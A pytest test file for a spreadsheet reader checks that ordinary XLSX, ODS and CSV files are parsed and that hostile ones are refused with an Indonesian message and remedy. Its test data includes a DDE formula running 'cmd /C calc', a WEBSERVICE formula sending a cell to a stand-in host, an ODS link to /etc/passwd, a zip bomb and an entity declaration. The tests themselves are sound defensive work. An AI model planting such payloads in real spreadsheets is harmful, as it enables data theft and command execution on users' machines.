"""Spreadsheets as offices send them are read; hostile ones are refused with the remedy."""

import io
import zipfile
from datetime import date, datetime, time

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from literasi.spreadsheets.reading import read
from literasi.spreadsheets.sheet import Refused, Sheet

XML = b'<?xml version="1.0" encoding="UTF-8"?>'
MAIN = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def workbook(**sheets):
    """An XLSX file: sheets by name, rows of values."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def altered(raw, parts=None, *, compress=zipfile.ZIP_DEFLATED):
    """A package with some parts replaced or added."""
    with zipfile.ZipFile(io.BytesIO(raw)) as package:
        every = {one: package.read(one) for one in package.namelist()}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compress) as package:
        for name, content in {**every, **(parts or {})}.items():
            package.writestr(name, content)
    return buffer.getvalue()


GOOD = workbook(Agenda=[["No", "Perihal"], [147, "x"]])


def with_sheet(body, attributes=b""):
    """The good workbook with another sheet data."""
    data = XML + b"<worksheet " + MAIN + attributes + b"><sheetData>" + body
    return altered(GOOD, {"xl/worksheets/sheet1.xml": data + b"</sheetData></worksheet>"})


def ods(body, **parts):
    """An ODS file with this in its table."""
    names = (
        b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        b'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        b'xmlns:xlink="http://www.w3.org/1999/xlink"'
    )
    content = (
        XML + b"<office:document-content " + names + b"><office:body><office:spreadsheet>"
        b'<table:table table:name="Agenda">' + body + b"</table:table>"
        b"</office:spreadsheet></office:body></office:document-content>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        package.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        package.writestr("content.xml", content)
        for name, more in {"META-INF/manifest.xml": b"<manifest/>", **parts}.items():
            package.writestr(name, more)
    return buffer.getvalue()


def text_cell(words, repeat=1):
    return (
        b'<table:table-cell office:value-type="string" table:number-columns-repeated="%d">'
        b"<text:p>%s</text:p></table:table-cell>" % (repeat, words)
    )


def locked():
    """The head of an encrypted workbook: an OLE file that holds a package."""
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500 + "EncryptedPackage".encode("utf-16-le")
    )


def bomb():
    return altered(GOOD, {"xl/media/image.xml": b" " * 40_000_000})


def liar():
    """A package whose directory says that a part is short."""
    raw = altered(GOOD, {"xl/media/image.xml": b"<a>" + b" " * 3_000_000 + b"</a>"})
    size = (3_000_007).to_bytes(4, "little")
    assert raw.count(size) == 2
    return raw.replace(size, (7).to_bytes(4, "little"))


def encrypted_part():
    raw = bytearray(GOOD)
    at = raw.index(b"PK\x01\x02")
    while at >= 0:
        raw[at + 8] |= 1
        at = raw.find(b"PK\x01\x02", at + 4)
    return bytes(raw)


def with_formula(text, value):
    return with_sheet(b'<row r="1"><c r="A1"><f>' + text + b"</f>" + value + b"</c></row>")


OUTSIDE = "berkas memuat rumus yang mengambil data dari luar berkas"
ENTITY = XML + b'<!DOCTYPE x [<!ENTITY a "b">]><worksheet ' + MAIN + b"/>"
SHARED = XML + b"<sst " + MAIN + b"><si><t>" + b"k" * 3_000_000 + b"</t></si></sst>"
MANY = b"".join(b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (n, n) for n in range(1, 99))
PREFIXED = (
    b'<x:worksheet xmlns:x="y"><x:sheetData><x:row><x:c r="XFD1"/></x:row></x:sheetData>'
    b"</x:worksheet>"
)
REFUSED = {
    "makro menurut nama": ("a.xlsm", GOOD, "berkas .xlsm dapat memuat makro"),
    "makro di dalam": (
        "a.xlsx", altered(GOOD, {"xl/vbaProject.bin": b"x"}), "berkas memuat makro",
    ),
    "makro menurut isi": (
        "a.xlsx",
        altered(GOOD, {"[Content_Types].xml": b"<a>sheet.macroEnabled.main</a>"}),
        "berkas memuat makro",
    ),
    "makro ODS": ("a.ods", ods(b"", **{"Basic/script.xml": b"<a/>"}), "berkas memuat makro"),
    "tautan luar": (
        "a.xlsx",
        altered(GOOD, {"xl/externalLinks/externalLink1.xml": b"<a/>"}),
        "berkas memuat tautan ke berkas lain, sambungan data, atau objek tertanam",
    ),
    "sambungan data": (
        "a.xlsx",
        altered(GOOD, {"xl/connections.xml": b"<a/>"}),
        "berkas memuat tautan ke berkas lain, sambungan data, atau objek tertanam",
    ),
    "tautan ODS": (
        "a.ods",
        ods(b'<table:table-source xlink:href="file:///etc/passwd"/>'),
        "berkas memuat tautan ke berkas lain",
    ),
    "bom zip": ("a.xlsx", bomb(), "isinya mengembang terlalu besar saat dibuka"),
    "ukuran palsu": ("a.xlsx", liar(), "berkas rusak: paketnya tidak dapat dibuka"),
    "terkunci": ("a.xlsx", locked(), "berkas dikunci kata sandi"),
    "bagian terkunci": ("a.xlsx", encrypted_part(), "berkas dikunci kata sandi"),
    "bentuk lama": ("a.xls", locked()[:100], "bentuk lama .xls tidak dibaca"),
    "jenis lain": ("a.pdf", b"%PDF-1.7", "jenis berkas «.pdf» tidak dikenal"),
    "tanpa akhiran": ("agenda", b"a;b", "jenis berkas «agenda» tidak dikenal"),
    "akhiran salah": ("a.xlsx", b"No;Perihal\n", "isi berkas bukan .xlsx"),
    "paket sebagai csv": ("a.csv", GOOD, "isi berkas bukan .csv"),
    "kosong": ("a.csv", b"  \n", "berkas kosong"),
    "terlalu berat": ("a.csv", b"x" * (20 * 1024 * 1024 + 1), "berkas lebih dari 20 MB"),
    "paket rusak": ("a.xlsx", GOOD[:200], "berkas rusak: paketnya tidak dapat dibuka"),
    "bukan XML": (
        "a.xlsx",
        altered(GOOD, {"xl/worksheets/sheet1.xml": b"<worksheet><row>"}),
        "berkas rusak: isinya tidak dapat dibaca",
    ),
    "deklarasi": (
        "a.xlsx",
        altered(GOOD, {"xl/worksheets/sheet1.xml": ENTITY}),
        "berkas memuat deklarasi yang tidak wajar",
    ),
    "sejuta baris": (
        "a.xlsx",
        with_sheet(b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>'),
        "lembarnya terlalu besar (paling banyak 100.000 baris dan 200 kolom)",
    ),
    "kolom jauh": (
        "a.xlsx",
        with_sheet(b'<row r="1"><c r="XFD1"><v>1</v></c></row>'),
        "lembarnya terlalu besar (paling banyak 100.000 baris dan 200 kolom)",
    ),
    "kolom jauh tanpa alamat": (
        "a.xlsx",
        with_sheet(b"<row>" + b"<c><v>1</v></c>" * 201 + b"</row>"),
        "lembarnya terlalu besar (paling banyak 100.000 baris dan 200 kolom)",
    ),
    "awalan nama": (
        "a.xlsx",
        altered(GOOD, {"xl/worksheets/sheet1.xml": XML + PREFIXED}),
        "lembarnya terlalu besar (paling banyak 100.000 baris dan 200 kolom)",
    ),
    "satu teks di banyak sel": (
        "a.xlsx",
        altered(with_sheet(MANY), {"xl/sharedStrings.xml": SHARED}, compress=zipfile.ZIP_STORED),
        "lembarnya terlalu besar (paling banyak 100.000 baris dan 200 kolom)",
    ),
    "baris ODS berulang": (
        "a.ods",
        ods(b'<table:table-row table:number-rows-repeated="1000000">' + text_cell(b"x")
            + b"</table:table-row>"),
        "lembarnya terlalu besar (paling banyak 100.000 baris dan 200 kolom)",
    ),
    "spasi ODS berulang": (
        "a.ods",
        ods(b"<table:table-row>" + text_cell(b'<text:s text:c="999999999"/>')
            + b"</table:table-row>"),
        "lembarnya terlalu besar (paling banyak 100.000 baris dan 200 kolom)",
    ),
    "baris CSV": (
        "a.csv", b"a,b\n" * 100_001, "terlalu besar: paling banyak 100.000 baris dan 200 kolom",
    ),
    "kutip CSV": ("a.csv", b'"' + b"a" * 200_000, "CSV tidak terbaca pada baris 1"),
    "nol dalam CSV": ("a.csv", b"a,\0b\n", "berkas ini bukan teks CSV"),
    "rumus ke luar": (
        "a.xlsx", with_formula(b'WEBSERVICE("https://x.invalid/"&amp;A1)', b"<v>1</v>"), OUTSIDE,
    ),
    "rumus DDE": ("a.xlsx", with_formula(b"cmd|' /C calc'!A0", b"<v>1</v>"), OUTSIDE),
    "rumus berkas lain": ("a.xlsx", with_formula(b"[1]Lembar!A1", b"<v>1</v>"), OUTSIDE),
    "rumus tautan": (
        "a.xlsx", with_formula(b"HYPERLINK(&quot;http://x.invalid&quot;)", b"<v>1</v>"), OUTSIDE,
    ),
    "rumus ODS ke luar": (
        "a.ods",
        ods(b'<table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;x&quot;)" '
            b'office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>'),
        OUTSIDE,
    ),
    "rumus belum dihitung": (
        "a.xlsx", with_formula(b"SUM(A1:A2)", b""), "berkas memuat rumus yang belum dihitung",
    ),
    "hanya lembar kosong": ("a.xlsx", workbook(Kosong=[]), "tidak ada lembar yang berisi"),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_what_cannot_be_trusted_is_refused_with_a_remedy(name):
    file, raw, message = REFUSED[name]
    found = read(file, raw)
    assert isinstance(found, Refused)
    assert (found.file, found.message) == (file, message)
    assert found.remedy


@pytest.mark.parametrize(
    "text",
    [b"SUM(A1:A9)", b"ROW()-3", b"Tabel1[Jumlah]", b"'Lembar lain'!B2*2", b'IF(A1&gt;1,"ya","")'],
)
def test_a_clerks_own_sums_are_read_by_their_stored_value(text):
    found = read("a.xlsx", with_formula(text, b"<v>7</v>"))
    assert isinstance(found, Sheet)
    assert found.rows == ((7,),)


def test_the_sums_of_an_ods_sheet_are_read_by_their_stored_value():
    cell = (
        b'<table:table-cell table:formula="of:=SUM([.A1:.A2];[$Lain.B1])" '
        b'office:value-type="float" office:value="7"><text:p>7</text:p></table:table-cell>'
    )
    found = read("a.ods", ods(b"<table:table-row>" + cell + b"</table:table-row>"))
    assert isinstance(found, Sheet)
    assert found.rows == ((7,),)


def test_cells_are_what_the_file_means():
    day = date(2026, 5, 2)
    moment = datetime.combine(day, time(8, 30))
    rows = [["0147", 147, 936.2, True, day, moment, time(8, 0), None, " x "]]
    found = read("map/agenda.xlsx", workbook(Agenda=rows))
    assert found == Sheet("agenda.xlsx", "Agenda", ((
        "0147", 147, 936.2, True, day, moment, time(8, 0), None, "x",
    ),))  # fmt: skip
    assert found.place(0, 2) == "agenda.xlsx:Agenda!1:3"


def test_rows_keep_their_number_and_all_are_as_wide():
    found = read("a.xlsx", workbook(A=[[], ["x"], [], ["y", "z"]]))
    assert found.rows == ((None, None), ("x", None), (None, None), ("y", "z"))


def test_the_first_sheet_with_content_is_read_or_the_one_that_is_named():
    raw = workbook(Kosong=[], Satu=[["a"]], Dua=[["b"]])
    assert read("a.xlsx", raw).name == "Satu"
    assert read("a.xlsx", raw, "Dua").rows == (("b",),)
    wrong = read("a.xlsx", raw, "Tiga")
    assert (wrong.message, wrong.remedy) == (
        "lembar «Tiga» tidak ada", "yang ada: Kosong, Satu, Dua",
    )  # fmt: skip


def test_the_empty_end_of_an_ods_sheet_costs_nothing():
    empty = b'<table:table-cell table:number-columns-repeated="16380"/>'
    found = read("a.ods", ods(
        b"<table:table-row>" + text_cell(b"No") + text_cell(b"x", 2) + empty
        + b'</table:table-row><table:table-row table:number-rows-repeated="1048575">' + empty
        + b"</table:table-row>"
    ))  # fmt: skip
    assert found.rows == (("No", "x", "x"),)


@pytest.mark.parametrize("sign", [",", ";", "\t", "|"])
@pytest.mark.parametrize("code", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_csv_is_read_in_every_form_that_offices_have(sign, code):
    lines = [["No", "Perihal"], ["0147", "Kafé, ruang; a"], ["2", ""]]
    text = "\r\n".join(sign.join(f'"{one}"' for one in line) for line in lines)
    found = read("a.csv", text.encode(code))
    assert found == Sheet("a.csv", "CSV", (
        ("No", "Perihal"), ("0147", "Kafé, ruang; a"), ("2", None),
    ))  # fmt: skip


def test_a_csv_may_name_its_own_sign():
    assert read("a.csv", b"sep=;\na,b;c\n").rows == (("a,b", "c"),)


@given(st.binary(max_size=300), st.sampled_from(["a.csv", "a.xlsx", "a.ods", "a.xls"]))
def test_any_bytes_give_a_sheet_or_a_refusal(raw, name):
    for content in (raw, b"PK\x03\x04" + raw):
        assert isinstance(read(name, content), Sheet | Refused)


@given(st.integers(0, len(GOOD) - 1), st.integers(0, 255))
def test_a_damaged_package_gives_a_sheet_or_a_refusal(at, byte):
    raw = bytearray(GOOD)
    raw[at] = byte
    assert isinstance(read("a.xlsx", bytes(raw)), Sheet | Refused)
